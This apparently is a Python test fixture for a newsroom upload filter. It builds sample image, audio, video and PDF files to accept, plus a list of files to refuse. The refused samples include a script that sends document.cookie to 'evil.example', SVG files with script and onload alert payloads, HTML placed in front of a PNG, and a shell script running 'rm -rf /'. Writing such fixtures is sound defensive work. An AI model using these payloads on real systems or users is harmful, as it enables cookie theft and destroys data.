"""Files as newsrooms send them, and as nobody should."""

import struct
import zlib
from collections.abc import AsyncIterator


def png(width: int = 3, height: int = 2, *, after: bytes = b"") -> bytes:
    """A picture in one colour, whose file goes on with `after`."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    lines = zlib.compress(b"\0" * (width + 1) * height) if width * height < 1 << 20 else b""
    parts = (chunk(b"IHDR", header), chunk(b"IDAT", lines), chunk(b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts) + after


def jpeg(width: int = 300, height: int = 200, *, turned: bool = False) -> bytes:
    """`turned`: the camera was held upright, and Exif says so (orientation 6)."""
    exif = b"Exif\0\0MM\0*\0\0\0\x08\0\x01\x01\x12\0\x03\0\0\0\x01\0\x06\0\0\0\0\0\0"
    notes = b"\xff\xe1" + struct.pack(">H", len(exif) + 2) + exif if turned else b""
    frame = b"\xff\xc0\0\x0b\x08" + struct.pack(">HH", height, width) + b"\x01\x01\x11\0"
    return b"\xff\xd8" + notes + frame + b"\xff\xda\0\x08\x01\x01\0\0?\0" + b"\0" * 20 + b"\xff\xd9"


def webp(width: int = 300, height: int = 200) -> bytes:
    body = b"WEBPVP8X" + struct.pack("<I", 10) + b"\0\0\0\0" + (width - 1).to_bytes(3, "little")
    body += (height - 1).to_bytes(3, "little")
    return b"RIFF" + struct.pack("<I", len(body)) + body


def box(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data) + 8) + kind + data


def avif(width: int = 300, height: int = 200, *, more: bytes = b"") -> bytes:
    """`more`: further boxes of its `meta`."""
    sides = box(b"ispe", struct.pack(">III", 0, width, height))
    associated = box(b"ipma", struct.pack(">IIHBB", 0, 1, 1, 1, 1))
    properties = box(b"iprp", box(b"ipco", sides) + associated)
    meta = box(b"meta", b"\0\0\0\0" + box(b"pitm", struct.pack(">IH", 0, 1)) + more + properties)
    return box(b"ftyp", b"avif\0\0\0\0avifmif1") + meta


SCRIPT = b"<script>fetch('//evil.example/' + document.cookie)</script>"
FILES = {
    "image/png": png(),
    "image/jpeg": jpeg(),
    "image/gif": b"GIF89a" + struct.pack("<HH", 300, 200) + b"\0\0\0;",
    "image/webp": webp(),
    "image/avif": avif(),
    "audio/mpeg": b"ID3\x04\0\0\0\0\0\0\xff\xfb\x90\x00" + bytes(400),
    "audio/mp4": box(b"ftyp", b"M4A \0\0\0\0M4A "),
    "audio/ogg": b"OggS\0\2" + bytes(20) + b"\x01\x1eOpusHead",
    "audio/flac": b"fLaC\0\0\0\x22" + bytes(34),
    "audio/wav": b"RIFF\x24\0\0\0WAVEfmt \x10\0\0\0",
    "video/mp4": box(b"ftyp", b"isom\0\0\x02\0isom"),
    "video/webm": b"\x1a\x45\xdf\xa3\x9f\x42\x86\x81\1\x42\xf7\x81\1\x42\xf2\x81\4\x42\xf3\x81\x08\x42\x82\x84webm",
    "video/ogg": b"OggS\0\2" + bytes(20) + b"\x01\x2a\x80theora",
    "application/pdf": b"%PDF-1.7\n%%EOF\n",
}
"""One of each type that is kept."""
REFUSED = {
    "SVG": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "SVG after a declaration": b'<?xml version="1.0"?><svg onload="alert(1)"/>',
    "HTML": b"<!DOCTYPE html>" + SCRIPT,
    "script": b"#!/bin/sh\nrm -rf /\n",
    "HTML before a picture": SCRIPT + png(),
    "a program": b"MZ\x90\0" + bytes(60),
    "an archive": b"PK\x03\x04" + bytes(30),
    "HEIC": box(b"ftyp", b"heic\0\0\0\0mif1"),
    "Matroska": b"\x1a\x45\xdf\xa3\xa3\x42\x82\x88matroska",
    "a frame of no bit rate": b"\xff\xfb\xf0\0" + bytes(400),
    "the beginning of a picture's signature": b"\x89PN",
    "words": "Das ist ein Text.".encode("utf-16"),
}
"""What is of no type that is kept."""


async def in_pieces(data: bytes, size: int = 0) -> AsyncIterator[bytes]:
    """Of at most `size` bytes; 0: in one."""
    for start in range(0, len(data), size or len(data) or 1):
        yield data[start : start + (size or len(data))]
